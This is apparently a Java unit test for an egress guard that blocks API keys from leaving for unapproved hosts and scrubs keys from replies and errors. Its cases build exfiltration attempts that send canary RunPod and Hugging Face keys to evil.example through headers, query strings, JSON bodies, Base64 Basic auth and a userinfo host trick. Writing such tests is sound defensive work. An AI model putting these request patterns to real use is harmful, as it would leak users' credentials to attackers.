package io.comfyvn.compute.gpu.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.comfyvn.compute.gpu.http.ProviderException.Sent;
import io.comfyvn.compute.gpu.http.ResilienceSettings.Op;
import io.comfyvn.compute.support.LiveContexts;
import io.comfyvn.compute.support.ScriptedTransport;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The guard: nothing carrying a key reaches the transport unless the policy allows it. */
class EgressGuardTest {
  private static final String KEY = "rpa_GUARD_CANARY_0123456789ABCDEF";
  private static final String HF = "hf_GUARD_CANARY_abcdefghijklmnop";
  private static final EgressPolicy POLICY = LiveContexts.policy(List.of("http://127.0.0.1:9100"));

  private final ScriptedTransport upstream = new ScriptedTransport();
  private final EgressGuard guard =
      LiveContexts.guard(upstream, POLICY, "runpod.api_key", KEY, "hf.token", HF);

  private static HttpCall get(String url, String... headers) {
    Map<String, String> h = new java.util.LinkedHashMap<>();
    for (int i = 0; i + 1 < headers.length; i += 2) {
      h.put(headers[i], headers[i + 1]);
    }
    return HttpCall.get(URI.create(url), h);
  }

  private void assertDenied(HttpCall call, String host) {
    assertThatThrownBy(() -> guard.send(call, Duration.ofSeconds(1)))
        .isInstanceOfSatisfying(
            ProviderException.class,
            e -> {
              assertThat(e.code()).isEqualTo("egress_denied");
              assertThat(e.sent()).isEqualTo(Sent.NOT_SENT);
              assertThat(e.retryable()).isFalse();
              assertThat(e.getMessage()).contains(host).doesNotContain(KEY).doesNotContain(HF);
            });
    assertThat(upstream.calls()).isEmpty();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      value = {
        "bearer header | https://evil.example/v2 | Authorization | Bearer " + KEY,
        "raw header | http://evil.example:8080/ | authorization | " + KEY,
        "odd header | https://evil.example/ | X-Anything | " + KEY,
        "query | https://evil.example/?key=" + KEY + " | Accept | */*",
        "hf to runpod | https://api.runpod.ai/v2 | Authorization | Bearer " + HF,
        "userinfo trick | http://api.runpod.ai@evil.example/ | Authorization | Bearer " + KEY,
        "plain http | http://api.runpod.ai/v2 | Authorization | Bearer " + KEY,
        "unknown credential | https://api.runpod.ai/v2 | Authorization | Bearer rpa_not_a_key_we_hold",
        "modal-style unknown | https://ws--x.modal.run/ | Modal-Secret | ws-not-held",
      })
  void keysAreNotSentWhereTheyDoNotBelong(String what, String url, String header, String value) {
    assertDenied(get(url, header, value), URI.create(url).getHost());
  }

  @Test
  void aKeyInTheBodyOrBase64InBasicAuthIsFoundToo() {
    assertDenied(
        HttpCall.postJson(
            URI.create("https://evil.example/run"), Map.of(), "{\"k\":\"" + KEY + "\"}"),
        "evil.example");
    String basic =
        Base64.getEncoder().encodeToString(("user:" + KEY).getBytes(StandardCharsets.UTF_8));
    assertDenied(get("https://evil.example/", "Authorization", "Basic " + basic), "evil.example");
  }

  @Test
  void documentedHostsAllowedBaseUrlsAndKeylessCallsGoThrough() throws Exception {
    upstream.json(200, "{}").json(200, "{}").json(200, "{}").json(200, "{}");
    guard.send(get("https://api.runpod.ai/v2/e/health", "Authorization", "Bearer " + KEY), null);
    guard.send(get("https://huggingface.co/api/jobs/ns", "Authorization", "Bearer " + HF), null);
    guard.send(get("http://127.0.0.1:9100/runpod/v2", "Authorization", "Bearer " + KEY), null);
    guard.send(get("http://lan-box:8188/system_stats", "Accept", "application/json"), null);
    assertThat(upstream.calls()).hasSize(4);
    assertThat(guard.owners(upstream.call(0))).containsExactly("runpod");
    assertThat(guard.owners(upstream.call(1))).containsExactly("huggingface");
    assertThat(guard.owners(upstream.call(3))).isEmpty();
  }

  @Test
  void answersArriveScrubbedInHeadersAndTextButNotInImages() throws Exception {
    StringBuilder escaped = new StringBuilder();
    for (char c : KEY.toCharArray()) {
      escaped.append(String.format("\\u%04x", (int) c));
    }
    upstream
        .reply(
            401,
            "{\"detail\":\""
                + "y".repeat(400)
                + " got Bearer "
                + KEY
                + "\",\"e\":\""
                + escaped
                + "\"}",
            "Content-Type",
            "application/problem+json",
            "Location",
            "https://x/?token=" + KEY)
        .reply(500, "modal-http: bad token " + HF, "Content-Type", "text/plain")
        .bytes(200, ("PNG" + KEY).getBytes(StandardCharsets.UTF_8), "image/png");
    HttpCall call = get("https://api.runpod.ai/v2/e/status/1", "Authorization", "Bearer " + KEY);
    HttpReply json = guard.send(call, null);
    assertThat(json.text())
        .doesNotContain(KEY)
        .doesNotContain("\\u0072")
        .contains("got Bearer ***");
    assertThat(json.header("location")).contains("https://x/?token=***");
    assertThat(guard.send(call, null).text()).isEqualTo("modal-http: bad token ***");
    assertThat(guard.send(call, null).text()).isEqualTo("PNG" + KEY);
  }

  @Test
  void aTransportFailureMessageIsScrubbed() {
    upstream.fail(true);
    HttpCall call = get("https://api.runpod.ai/v2/e/status/" + KEY, "Accept", "*/*");
    assertThatThrownBy(() -> guard.send(call, null))
        .isInstanceOf(HttpTransport.TransportException.class)
        .hasMessageNotContaining(KEY)
        .hasMessageContaining("***");
  }

  @Test
  void theDoorNeitherRetriesNorCountsADenial() {
    ProviderHttp door =
        new ProviderHttp(
            "runpod",
            guard,
            ResilienceSettings.of("runpod", Map.of(), Map.of(), LiveContexts.settings("{}")),
            LiveContexts.MAPPER);
    HttpCall bad =
        HttpCall.postJson(
            URI.create("https://evil.example/run"), Map.of("Authorization", "Bearer " + KEY), "{}");
    for (int i = 0; i < 30; i++) {
      assertThatThrownBy(() -> door.call(Op.CREATE, bad))
          .isInstanceOfSatisfying(
              ProviderException.class, e -> assertThat(e.code()).isEqualTo("egress_denied"));
    }
    assertThat(upstream.calls()).isEmpty();
    // the breaker saw no failures: an allowed call still goes out
    upstream.json(200, "{\"id\":\"j1\"}");
    HttpCall good =
        HttpCall.postJson(
            URI.create("https://api.runpod.ai/v2/e/run"),
            Map.of("Authorization", "Bearer " + KEY),
            "{}");
    assertThat(door.call(Op.CREATE, good).status()).isEqualTo(200);
    assertThat(upstream.calls()).hasSize(1);
  }
}
